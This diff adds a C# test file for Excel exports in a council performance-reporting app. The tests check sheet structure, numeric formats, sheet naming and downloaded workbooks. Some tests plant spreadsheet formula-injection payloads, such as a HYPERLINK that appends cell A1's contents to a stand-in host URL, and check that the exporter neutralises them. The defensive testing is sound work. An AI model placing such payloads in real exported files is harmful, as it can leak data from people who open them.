@@ -1,0 +1,114 @@
+using System.Net;
+using DocumentFormat.OpenXml.Packaging;
+using DocumentFormat.OpenXml.Spreadsheet;
+using Microsoft.EntityFrameworkCore;
+using Steward.Common;
+using Steward.Domain;
+using Steward.Features.Reports;
+using Steward.Tests.Web;
+
+namespace Steward.Tests.Reports;
+
+/// <summary>Excel workbooks: the pack a sheet per table, the exports, the committee's work programme — numbers as numbers, text never a formula.</summary>
+public class ExcelTests : IAsyncLifetime
+{
+    private readonly DemoSite _site = new();
+
+    public Task InitializeAsync() => _site.InitializeAsync();
+    public Task DisposeAsync() => _site.DisposeAsync();
+
+    /// <summary>Each sheet's name and its rows, each cell as (text, number, number format).</summary>
+    private static Dictionary<string, List<List<(string? Text, decimal? Number, string? Format)>>> Read(byte[] xlsx)
+    {
+        using var doc = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
+        var book = doc.WorkbookPart!;
+        var formats = book.WorkbookStylesPart!.Stylesheet!.NumberingFormats?.Elements<NumberingFormat>().ToDictionary(f => f.NumberFormatId!.Value, f => f.FormatCode!.Value) ?? [];
+        var xfs = book.WorkbookStylesPart.Stylesheet.CellFormats!.Elements<CellFormat>().ToList();
+        var sheets = new Dictionary<string, List<List<(string?, decimal?, string?)>>>();
+        foreach (var sheet in book.Workbook.Descendants<DocumentFormat.OpenXml.Spreadsheet.Sheet>())
+        {
+            var part = (WorksheetPart)book.GetPartById(sheet.Id!);
+            part.Worksheet.Descendants<Pane>().Single().State!.Value.ShouldBe(PaneStateValues.Frozen, sheet.Name);
+            part.Worksheet.Elements<AutoFilter>().ShouldHaveSingleItem(sheet.Name);
+            sheets[sheet.Name!] = part.Worksheet.Descendants<Row>().Select(r =>
+            {
+                var row = new List<(string?, decimal?, string?)>();
+                foreach (var c in r.Elements<Cell>())
+                {
+                    // Cells are placed by their reference: an empty cell is not written.
+                    var column = c.CellReference!.Value!.TakeWhile(char.IsLetter).Aggregate(0, (n, ch) => n * 26 + ch - 'A' + 1) - 1;
+                    while (row.Count < column) row.Add((null, null, null));
+                    row.Add(c.DataType?.Value == CellValues.Number
+                        ? (null, decimal.Parse(c.CellValue!.Text, System.Globalization.CultureInfo.InvariantCulture),
+                            formats.GetValueOrDefault(xfs[(int)(c.StyleIndex?.Value ?? 0)].NumberFormatId?.Value ?? 0))
+                        : (c.InnerText, null, null));
+                }
+                return row;
+            }).ToList();
+        }
+        return sheets;
+    }
+
+    [Fact]
+    public async Task The_pack_workbook_has_a_sheet_per_table_with_the_figures_as_numbers_in_the_indicators_format()
+    {
+        await using var db = _site.Db.Open(_site.Dacorum);
+        var result = await db.Results.SingleAsync(r => r.Indicator!.Code == "CSU02" && r.Period == new Period(2017, 9));
+        result.UpdaterComment = "=HYPERLINK(\"http://example.invalid\",\"Click\")";
+        await db.SaveChangesAsync();
+        var org = await db.Organisations.SingleAsync(o => o.Id == _site.Dacorum);
+        var committee = await db.Committees.SingleAsync(c => c.Code == "FROSC");
+        var pack = await PackBuilder.BuildAsync(db, org, new PackRequest(committee, new Period(2017, 9), false, new DateOnly(2018, 1, 20)));
+        var sheets = Read(PackXlsx.Render(pack));
+
+        sheets.Keys.First().ShouldBe("Cover");
+        sheets["Cover"][1].Select(c => c.Text).ShouldBe(["Report for", "Finance and Resources Overview and Scrutiny Committee"]);
+        sheets["Indicators by rating"][1].ShouldBe([("Green", null, null), (null, 7m, "#,##0")]);
+        var figures = sheets["Indicator figures"];
+        var csu02 = figures.Single(r => r[0].Text!.StartsWith("CSU02 "));
+        // The quarter's result: the stored value (15754 / 16016 at full precision), shown at the indicator's two decimals.
+        (Math.Round(csu02[1].Number!.Value, 2), csu02[1].Format).ShouldBe((98.36m, "#,##0.00\"%\""));
+        csu02[2].Number.ShouldBe(15754m);                       // numerator
+        csu02[3].Number.ShouldBe(16016m);                       // denominator
+        csu02[4].ShouldBe((null, 90m, "#,##0.00\"%\""));        // target
+        csu02[5].Text.ShouldBe("Green");
+        sheets.Values.SelectMany(s => s).SelectMany(r => r).ShouldContain(c => c.Text != null && c.Text.Contains("Updater: =HYPERLINK"));
+    }
+
+    [Fact]
+    public void Text_that_a_spreadsheet_would_take_for_a_formula_is_neutralised_as_in_csv_and_sheet_names_are_made_valid()
+    {
+        var sheets = Read(Xlsx.Write("Test", [
+            new Steward.Common.Sheet("Risks: register [all]/exempt?", ["title", "owner", "score"],
+                [["=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")", "-Alex Owner", new SheetCell("12", 12m)]]),
+            new Steward.Common.Sheet("Risks: register [all]/exempt?", ["a"], []),
+        ]));
+        sheets.Keys.ShouldBe(["Risks register allexempt", "Risks register allexempt (2)"]);
+        sheets["Risks register allexempt"][1].ShouldBe([("'=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")", null, null), ("'-Alex Owner", null, null), (null, 12m, null)]);
+    }
+
+    [Fact]
+    public async Task Exports_and_the_work_programme_download_as_workbooks()
+    {
+        var officer = await _site.As("officer@dacorum.example");
+        var response = await officer.Client.GetAsync("/manage/export/results?format=xlsx");
+        response.StatusCode.ShouldBe(HttpStatusCode.OK);
+        response.Content.Headers.ContentDisposition!.FileNameStar.ShouldBe("dbc-results.xlsx");
+        var results = Read(await response.Content.ReadAsByteArrayAsync())["results"];
+        results[0].Take(3).Select(c => c.Text).ShouldBe(["code", "period", "value"]);
+        // A ratio's value is written as its numerator and denominator, as numbers.
+        var row = results.First(r => r[0].Text == "CSU02" && r[1].Text == "2017-09");
+        (row[3].Number, row[4].Number).ShouldBe((15754m, 16016m));
+        results.First(r => r[0].Text == "CSU10" && r[1].Text == "2017-09")[2].Number.ShouldNotBeNull();
+
+        var committee = (await officer.GetAsync("/committees")).Page.QuerySelector("tbody th a")!.GetAttribute("href")!;
+        response = await officer.Client.GetAsync(committee + "?handler=Workbook");
+        response.StatusCode.ShouldBe(HttpStatusCode.OK);
+        var workbook = Read(await response.Content.ReadAsByteArrayAsync());
+        var programme = workbook["Work programme"];
+        programme[0].Select(c => c.Text).ShouldBe(["Meeting", "Time", "Venue", "Report deadline", "Cancelled", "Item", "Lead officer", "Status", "Background"]);
+        programme.Count.ShouldBe(1 + 5 + 7 + 2 + 6 + 1 + 6);
+        programme[2].Select(c => c.Text).ShouldBe(["2018-03-06", "19:30", "Conference Room 2, The Forum", "2018-02-20", null, "Finance & Resources – Q3 Performance Report", "Fiona Jump", "Drafting", "To follow"]);
+        workbook["Follow-up actions"][1][0].Text.ShouldBe("Approve actions: Next phase of the sickness project");
+    }
+}
